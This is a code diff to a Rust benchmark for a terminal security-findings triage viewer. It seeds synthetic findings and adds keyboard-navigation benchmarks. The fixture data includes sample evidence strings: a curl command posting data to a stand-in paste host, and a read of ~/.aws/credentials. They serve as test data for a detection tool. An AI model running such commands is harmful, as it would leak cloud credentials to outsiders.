@@ -128,22 +128,37 @@ fn generate(db: &Path, runs: usize, spans_per_run: usize, parents: Parents) {
                 .unwrap();
             }
             if sev > 0 {
-                finding
-                    .execute(rusqlite::params![
-                        format!("fp-{i}"),
-                        "CRED-READ-002",
-                        3,
-                        id,
+                // One action, two findings (a group in Findings), and a second flagged span.
+                for (k, (rule, span, sev, ev)) in [
+                    (
+                        "EXF-TRACE-001",
                         "s1",
-                        "[\"s1\"]",
-                        "Cloud credential file read",
-                        "A tool read ~/.aws/credentials",
-                        "cat ~/.aws/credentials",
-                        src,
-                        1,
-                        start
-                    ])
-                    .unwrap();
+                        3,
+                        "curl -d @- https://paste.example/x",
+                    ),
+                    ("NET-TRACE-002", "s1", 3, "curl reaches paste.example"),
+                    ("EXF-TRACE-003", "s9", 2, "cat ~/.aws/credentials"),
+                ]
+                .into_iter()
+                .enumerate()
+                {
+                    finding
+                        .execute(rusqlite::params![
+                            format!("fp-{i}-{k}"),
+                            rule,
+                            sev,
+                            id,
+                            span,
+                            format!("[\"{span}\"]"),
+                            "Cloud credential file read",
+                            "A tool read ~/.aws/credentials",
+                            ev,
+                            src,
+                            1,
+                            start + k as i64
+                        ])
+                        .unwrap();
+                }
             }
         }
     }
@@ -165,8 +180,8 @@ fn generate(db: &Path, runs: usize, spans_per_run: usize, parents: Parents) {
 fn stores() -> Vec<(&'static str, PathBuf)> {
     let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/bench-tui");
     std::fs::create_dir_all(&dir).unwrap();
-    let small = dir.join("small-100-v3.db");
-    let big = dir.join("big-1m-v3.db");
+    let small = dir.join("small-100-v4.db");
+    let big = dir.join("big-1m-v4.db");
     generate(&small, 2, 50, Parents::Fanout8);
     let t = Instant::now();
     if !big.exists() {
@@ -181,13 +196,13 @@ fn stores() -> Vec<(&'static str, PathBuf)> {
 fn big_run_store() -> PathBuf {
     let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/bench-tui");
     std::fs::create_dir_all(&dir).unwrap();
-    let db = dir.join("run-100k-v3.db");
+    let db = dir.join("run-100k-v4.db");
     generate(&db, 1, 100_000, Parents::RandomEarlier);
     db
 }
 
 fn open(db: &Path) -> Harness {
-    Harness::new(db, 160, 48, T0, Theme::dark()).unwrap()
+    Harness::new(db, 160, 45, T0, Theme::dark()).unwrap()
 }
 
 fn key(h: &mut Harness, code: KeyCode) {
@@ -264,6 +279,50 @@ fn benches(c: &mut Criterion) {
                 let s = h.draw();
                 key(&mut h, KeyCode::Esc);
                 s
+            })
+        });
+        // Triage at speed: the Findings view (groups), its keys, a decision and its undo,
+        // and the Run view's jump to a flagged span (glyphs and roll-ups on every frame).
+        g.bench_function(format!("findings_key_j/{name}"), |b| {
+            let mut hf = open(db);
+            key(&mut hf, KeyCode::Tab);
+            b.iter(|| {
+                if hf.app.findings.list.sel + 2 >= hf.app.findings.list.total as usize {
+                    hf.press('g');
+                }
+                hf.press('j');
+                hf.draw()
+            })
+        });
+        g.bench_function(format!("findings_pagedown/{name}"), |b| {
+            let mut hf = open(db);
+            key(&mut hf, KeyCode::Tab);
+            b.iter(|| {
+                if hf.app.findings.list.sel + 60 >= hf.app.findings.list.total as usize {
+                    hf.press('g');
+                }
+                key(&mut hf, KeyCode::PageDown);
+                hf.draw()
+            })
+        });
+        g.bench_function(format!("triage_x_then_u/{name}"), |b| {
+            let mut hf = open(db);
+            key(&mut hf, KeyCode::Tab);
+            b.iter(|| {
+                hf.press('x');
+                hf.draw();
+                hf.press('u');
+                hf.draw()
+            })
+        });
+        g.bench_function(format!("run_next_flagged/{name}"), |b| {
+            let mut hr = open(db);
+            // A run with findings: the first of the worst-findings sort.
+            hr.press('s');
+            key(&mut hr, KeyCode::Enter);
+            b.iter(|| {
+                hr.press('n');
+                hr.draw()
             })
         });
         g.bench_function(format!("filter_findings/{name}"), |b| {
